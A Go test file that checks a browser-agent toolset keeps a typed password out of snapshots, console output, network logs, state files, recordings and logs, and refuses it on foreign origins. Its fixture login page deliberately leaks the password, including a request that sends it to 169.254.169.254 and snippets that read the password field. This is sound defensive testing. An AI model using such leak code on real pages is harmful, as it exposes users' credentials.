package agent_test

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/hybroute/hybroute"
	"github.com/hybroute/hybroute/agent"
	"github.com/hybroute/hybroute/hybroutetest"
	"github.com/hybroute/hybroute/internal/agenttest"
	"github.com/hybroute/hybroute/internal/testlog"
	"github.com/hybroute/hybroute/route"
)

// The secret of the tests: a space, escapes, a character past ASCII.
const secretValue = "c0rrect h0rse+b@ttery/é"

// loginPage is a login form whose own script leaks what it is given
// through every channel a tool reads, when "Leak" is clicked: the page's
// text, its title and URL, the console, an uncaught error, a dialog, its
// requests (query and body), a refused request, cookies and storage.
const loginPage = `<!doctype html><title>Sign in</title>
<form method="post" action="/welcome">
<label>User <input name="user"></label>
<label>Password <input type="password" name="pw" id="pw"></label>
<label>Read-only <input name="ro" readonly value="x"></label>
<div contenteditable="true" role="textbox" aria-label="Notes">n</div>
<button type="submit">Sign in</button>
</form>
<button type="button" onclick="leak()">Leak</button>
<p id="out"></p>
<iframe src="%s" title="elsewhere"></iframe>
<script>
function hex(s) { return Array.from(new TextEncoder().encode(s), b => b.toString(16).padStart(2, "0")).join(""); }
function b64(s) { return btoa(String.fromCharCode(...new TextEncoder().encode(s))); }
function leak() {
	const v = document.getElementById("pw").value;
	document.getElementById("out").textContent = [v, encodeURIComponent(v), b64(v), btoa(v), hex(v)].join(" | ");
	document.title = "Hi " + v;
	console.log("typed", v, encodeURIComponent(v), b64(v), hex(v));
	console.log("x".repeat(1990) + v); // cut by the toolset inside the value
	fetch("/echo?pw=" + encodeURIComponent(v) + "&b=" + b64(v), {method: "POST", body: v});
	new Image().src = "http://169.254.169.254/latest?pw=" + encodeURIComponent(v);
	localStorage.setItem("pw", v); sessionStorage.setItem("b", b64(v));
	document.cookie = "pw=" + encodeURIComponent(v);
	history.replaceState(null, "", "?q=" + encodeURIComponent(v));
	alert("your password is " + v);
	setTimeout(() => { throw new Error("boom " + v); }, 0);
}
</script>`

// loginSite serves the login page on loopback at /login (its iframe shows
// a password field of another origin: the same address, another port),
// and /welcome echoes what was posted, as a careless site does.
func loginSite(t *testing.T) (*httptest.Server, string) {
	t.Helper()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><label>Other password <input type="password"></label>`)
	}))
	t.Cleanup(other.Close)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		switch r.URL.Path {
		case "/login":
			fmt.Fprintf(w, loginPage, other.URL+"/field")
		case "/welcome":
			_ = r.ParseForm()
			fmt.Fprintf(w, `<!doctype html><title>Welcome</title><p id="echo">%s</p>`, r.PostForm.Get("pw"))
		default:
			fmt.Fprint(w, "ok")
		}
	}))
	t.Cleanup(srv.Close)
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	return srv, port
}

// spellings are the forms of the secret the tests look for.
func spellings(v string) []string {
	return []string{v, url.QueryEscape(v), url.PathEscape(v), strings.ReplaceAll(url.QueryEscape(v), "+", "%20"),
		base64.StdEncoding.EncodeToString([]byte(v)), hex.EncodeToString([]byte(v)), "h0rse+b@ttery"}
}

func assertNoSecret(t *testing.T, what, text string) {
	t.Helper()
	for _, s := range spellings(secretValue) {
		assert.NotContains(t, strings.ToLower(text), strings.ToLower(s), "%s holds the secret as %q:\n%s", what, s, text)
	}
}

// assertResultClean checks all a caller reads of a result: text and _meta.
func assertResultClean(t *testing.T, what string, res agent.Result) {
	t.Helper()
	assertNoSecret(t, what, res.Text)
	meta, err := json.Marshal(res.Where)
	require.NoError(t, err)
	assertNoSecret(t, what+" (where)", string(meta))
}

// TestSecretsAreNeverReadBack types a secret into a loopback login page
// whose own script then spreads it everywhere, and tries to read it back
// through every tool: snapshot (to the model and to a file), exec (refused
// on the page; after a site echoed it into the next page, its plain, URL,
// base64 and hex forms are scrubbed), console, errors, dialogs, network
// requests, the page's title and URL, a state file, and the logs. And it
// is refused where it does not belong.
func TestSecretsAreNeverReadBack(t *testing.T) {
	hybroutetest.Parallel(t)
	srv, port := loginSite(t)
	origin := "http://127.0.0.1:" + port
	set, err := agent.NewSecrets(agent.Secret{Name: "app-password", Value: secretValue, Origins: []string{origin}},
		agent.Secret{Name: "other", Value: "another-secret", Origins: []string{"https://example.com"}})
	require.NoError(t, err)
	logs := &testlog.Buffer{}
	logger := slog.New(set.LogHandler(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})))
	r := agenttest.NewRouter(t, nil, hybroute.WithLogger(logger))
	stateDir, snapDir, recDir := t.TempDir(), t.TempDir(), t.TempDir()
	ts := newToolset(t, r, agent.WithSecrets(set), agent.WithStateDir(stateDir), agent.WithSnapshotDir(snapDir),
		agent.WithRecording(recDir), agent.WithLogger(slog.New(slog.NewTextHandler(logs, nil))))
	const s = "secrets"
	check := func(what string, res agent.Result) agent.Result {
		t.Helper()
		assertResultClean(t, what, res)
		return res
	}

	mustOK(t, callTool(t, ts, s, "browser_navigate", map[string]string{"url": srv.URL + "/login"}))
	snap := mustOK(t, callTool(t, ts, s, "browser_snapshot", nil)).Text
	pw := refOf(`textbox "Password"`, snap)
	require.NotEmpty(t, pw, snap)
	typed := check("type", mustOK(t, callTool(t, ts, s, "browser_type_secret", map[string]any{"ref": pw, "name": "app-password"})))
	assert.Contains(t, typed.Text, `Typed the secret "app-password" into `+pw)
	// A picture of the page would show what a text field holds.
	shot := check("screenshot", callTool(t, ts, s, "browser_screenshot", nil))
	require.True(t, shot.IsError, shot.Text)
	assert.Contains(t, shot.Text, "browser_screenshot is off on this page: a secret was typed into it")

	// The record films the tab no more from the typing on.
	_, filmed := agent.RecordedFrames(ts, s)
	leak := check("click", mustOK(t, callTool(t, ts, s, "browser_click", map[string]string{"ref": refOf(`button "Leak"`, snap)})))
	_, after := agent.RecordedFrames(ts, s)
	assert.Equal(t, filmed, after, "a frame of the tab that holds the secret was taken")
	require.NotEmpty(t, leak.Where.Dialogs, "the page's alert is reported")
	assert.Contains(t, leak.Where.Dialogs[0].Message, "your password is REDACTED")
	assert.Contains(t, leak.Where.Title, "Hi REDACTED")

	got := check("snapshot", mustOK(t, callTool(t, ts, s, "browser_snapshot", nil)))
	assert.Contains(t, got.Text, "REDACTED | REDACTED | REDACTED | REDACTED | REDACTED", "each form the page wrote is scrubbed")
	check("snapshot to a file", mustOK(t, callTool(t, ts, s, "browser_snapshot", map[string]string{"file": "page.txt"})))
	b, err := os.ReadFile(filepath.Join(snapDir, "page.txt"))
	require.NoError(t, err)
	assertNoSecret(t, "the snapshot file", string(b))
	assert.Contains(t, string(b), "REDACTED")

	for _, code := range []string{
		`document.getElementById("pw").value`,
		`encodeURIComponent(document.getElementById("pw").value)`,
		`btoa(unescape(encodeURIComponent(document.getElementById("pw").value)))`,
		`Array.from(new TextEncoder().encode(document.getElementById("pw").value), b => b.toString(16).padStart(2, "0")).join("")`,
		`document.getElementById("pw").value.split("").reverse().join("")`,
	} {
		res := check("exec", callTool(t, ts, s, "browser_exec", map[string]string{"code": code}))
		require.True(t, res.IsError, "exec on the page that holds the secret runs: %s", res.Text)
		assert.Contains(t, res.Text, "browser_exec is off on this page: a secret was typed into it")
	}

	console := check("console", mustOK(t, callTool(t, ts, s, "browser_console", nil)))
	assert.Contains(t, console.Text, "typed REDACTED REDACTED REDACTED REDACTED")
	assert.Contains(t, console.Text, "boom REDACTED")
	assert.Contains(t, console.Text, "xxREDACTED…", "a value cut short is scrubbed too")
	assert.NotContains(t, console.Text, secretValue[:10])
	netw := check("network", mustOK(t, callTool(t, ts, s, "browser_network_requests", nil)))
	assert.Contains(t, netw.Text, "/echo?pw=REDACTED&b=REDACTED")
	assert.Contains(t, netw.Text, "169.254.169.254")
	// Searches are no oracle: a filter matches the scrubbed URLs, and
	// find is off on the page.
	b64 := base64.StdEncoding.EncodeToString([]byte(secretValue))
	netw = check("network filter", mustOK(t, callTool(t, ts, s, "browser_network_requests", map[string]string{"filter": "b=" + b64[:4]})))
	assert.NotContains(t, netw.Text, "/echo")
	netw = check("network filter", mustOK(t, callTool(t, ts, s, "browser_network_requests", map[string]string{"filter": "b=REDACTED"})))
	assert.Contains(t, netw.Text, "/echo")
	find := check("find", callTool(t, ts, s, "browser_snapshot", map[string]string{"find": "c0rr"}))
	require.True(t, find.IsError, find.Text)
	assert.Contains(t, find.Text, "find is off on this page: a secret was typed into it")

	// Another tab of the session could reach the page (window.opener):
	// exec is off there too while the page is open.
	check("new tab", mustOK(t, callTool(t, ts, s, "browser_tabs", map[string]string{"action": "new", "url": srv.URL + "/other"})))
	tabs := check("tabs", mustOK(t, callTool(t, ts, s, "browser_tabs", map[string]string{"action": "list"})))
	login := regexp.MustCompile(`- (t\d+) "Hi REDACTED"`).FindStringSubmatch(tabs.Text)
	require.NotNil(t, login, tabs.Text)
	res := check("exec in another tab", callTool(t, ts, s, "browser_exec", map[string]string{"code": "1"}))
	require.True(t, res.IsError, res.Text)
	assert.Contains(t, res.Text, "browser_exec is off: another tab of this session ("+login[1]+") shows a page a secret was typed into")
	check("select", mustOK(t, callTool(t, ts, s, "browser_tabs", map[string]string{"action": "select", "id": login[1]})))
	check("state save", mustOK(t, callTool(t, ts, s, "browser_state_save", map[string]string{"name": "login"})))
	b, err = os.ReadFile(filepath.Join(stateDir, "login.json"))
	require.NoError(t, err)
	assertNoSecret(t, "the state file", string(b))
	assert.Contains(t, string(b), "REDACTED")

	// The form goes to a page that echoes the password: exec runs again
	// on the new document, and what it reads of the secret, in the
	// common encodings, is scrubbed.
	submit := check("submit", mustOK(t, callTool(t, ts, s, "browser_type_secret", map[string]any{"ref": pw, "name": "app-password", "submit": true})))
	require.True(t, submit.Where.Navigated, submit.Text)
	for _, code := range []string{
		`document.getElementById("echo").textContent`,
		`encodeURIComponent(document.getElementById("echo").textContent)`,
		`btoa(unescape(encodeURIComponent(document.getElementById("echo").textContent)))`,
		`Array.from(new TextEncoder().encode(document.getElementById("echo").textContent), b => b.toString(16).padStart(2, "0")).join("")`,
		`"x" + btoa(unescape(encodeURIComponent("u:" + document.getElementById("echo").textContent)))`,
	} {
		res := check("exec on the echo", mustOK(t, callTool(t, ts, s, "browser_exec", map[string]string{"code": code})))
		assert.Contains(t, res.Text, "REDACTED", code)
	}
	// Back on the login page, the browser puts the typed value back in a
	// new document of the same history entry: exec is off there again.
	check("back", mustOK(t, callTool(t, ts, s, "browser_back", nil)))
	back := check("exec after back", callTool(t, ts, s, "browser_exec", map[string]string{"code": `document.getElementById("pw").value.split("").reverse().join("")`}))
	require.True(t, back.IsError, "exec on the page the secret was typed into runs after going back: %s", back.Text)
	assert.Contains(t, back.Text, "browser_exec is off on this page: a secret was typed into it")
	require.NoError(t, ts.Release(t.Context(), s))
	// The session's record is written as it ends: its timeline holds no
	// spelling of the secret.
	var records []string
	require.Eventually(t, func() bool {
		records, _ = filepath.Glob(filepath.Join(recDir, "*.html"))
		return len(records) > 0
	}, 30*time.Second, 50*time.Millisecond, "no record was written")
	for _, f := range records {
		b, err := os.ReadFile(f)
		require.NoError(t, err)
		assertNoSecret(t, "the record "+filepath.Base(f), string(b))
	}

	t.Run("origins", func(t *testing.T) {
		// A secret is refused on a page of another origin, in a frame of
		// another origin inside its own page, in a field that cannot
		// take it, and under a name that does not exist.
		const s = "origins"
		mustOK(t, callTool(t, ts, s, "browser_navigate", map[string]string{"url": srv.URL + "/login"}))
		snap := mustOK(t, callTool(t, ts, s, "browser_snapshot", nil)).Text
		typeSecret := func(ref, name string) agent.Result {
			t.Helper()
			require.NotEmpty(t, ref, snap)
			res := callTool(t, ts, s, "browser_type_secret", map[string]any{"ref": ref, "name": name})
			require.True(t, res.IsError, res.Text)
			assertResultClean(t, "refusal", res)
			return res
		}
		res := typeSecret(refOf(`textbox "Password"`, snap), "other")
		assert.Contains(t, res.Text, `the secret "other" may not be typed on this page: the field's frame is of origin "http://127.0.0.1:`+port+`"`)
		res = typeSecret(refOf(`textbox "Other password"`, snap), "app-password")
		assert.Contains(t, res.Text, `the field's frame is of origin "http://127.0.0.1:`, "the frame's origin decides, not the page's")
		assert.NotContains(t, res.Text, `origin "http://127.0.0.1:`+port+`"`)
		res = typeSecret(refOf(`textbox "Notes"`, snap), "app-password")
		assert.Contains(t, res.Text, "a secret goes only into a text, password or email field or a text area")
		res = typeSecret(refOf(`button "Sign in"`, snap), "app-password")
		assert.Contains(t, res.Text, "a secret goes only into")
		res = typeSecret(refOf(`textbox "Read-only"`, snap), "app-password")
		assert.Contains(t, res.Text, "disabled or read-only")
		res = typeSecret(refOf(`textbox "Password"`, snap), "nope")
		assert.Contains(t, res.Text, `there is no secret "nope"; the secrets are app-password, other`)

		// Nothing was typed: exec still runs on the page.
		out := mustOK(t, callTool(t, ts, s, "browser_exec", map[string]string{"code": `document.getElementById("pw").value`}))
		assert.Contains(t, out.Text, `Result: ""`)
	})
	assertNoSecret(t, "the logs", logs.String())
	assert.NotContains(t, fmt.Sprint(agent.New(nil).Tools()), agent.ToolTypeSecret, "without secrets the tool is not offered")
}

// TestPrivateSecretsStayOffTheCloud: on a router whose cloud browser may
// open private addresses, a secret bound to a private origin is refused in
// the cloud browser, even on its own origin, as is one the operator keeps
// local; a secret of a public origin is typed there.
func TestPrivateSecretsStayOffTheCloud(t *testing.T) {
	hybroutetest.Parallel(t)
	srv, port := loginSite(t)
	set, err := agent.NewSecrets(
		agent.Secret{Name: "private", Value: secretValue, Origins: []string{"http://127.0.0.1:" + port}},
		agent.Secret{Name: "kept", Value: "kept-local-1", Origins: []string{"http://" + agenttest.PublicHost + ":" + port}, LocalOnly: true},
		agent.Secret{Name: "public", Value: "public-pass-1", Origins: []string{"http://" + agenttest.PublicHost + ":" + port}})
	require.NoError(t, err)
	cloud := agenttest.NewCloud(t)
	r := agenttest.NewRouter(t, cloud.Provider, hybroute.WithAutoLocalForPrivateURLs(false), hybroute.WithAllowPrivateURLs(true))
	ts := newToolset(t, r, agent.WithSecrets(set))
	const s = "cloud"

	nav := mustOK(t, callTool(t, ts, s, "browser_navigate", map[string]string{"url": srv.URL + "/login"}))
	require.Equal(t, route.Cloud, nav.Where.Route, "the private page is in the cloud browser")
	snap := mustOK(t, callTool(t, ts, s, "browser_snapshot", nil)).Text
	res := callTool(t, ts, s, "browser_type_secret", map[string]any{"ref": refOf(`textbox "Password"`, snap), "name": "private"})
	require.True(t, res.IsError, res.Text)
	assert.Contains(t, res.Text, `the secret "private" is typed only in the local browser`)

	mustOK(t, callTool(t, ts, s, "browser_navigate", map[string]string{"url": "http://" + agenttest.PublicHost + ":" + port + "/login"}))
	snap = mustOK(t, callTool(t, ts, s, "browser_snapshot", nil)).Text
	res = callTool(t, ts, s, "browser_type_secret", map[string]any{"ref": refOf(`textbox "Password"`, snap), "name": "kept"})
	require.True(t, res.IsError, res.Text)
	assert.Contains(t, res.Text, `the secret "kept" is typed only in the local browser`)
	res = mustOK(t, callTool(t, ts, s, "browser_type_secret", map[string]any{"ref": refOf(`textbox "Password"`, snap), "name": "public"}))
	assert.Equal(t, route.Cloud, res.Where.Route)
	assert.Contains(t, res.Text, `Typed the secret "public"`)
}
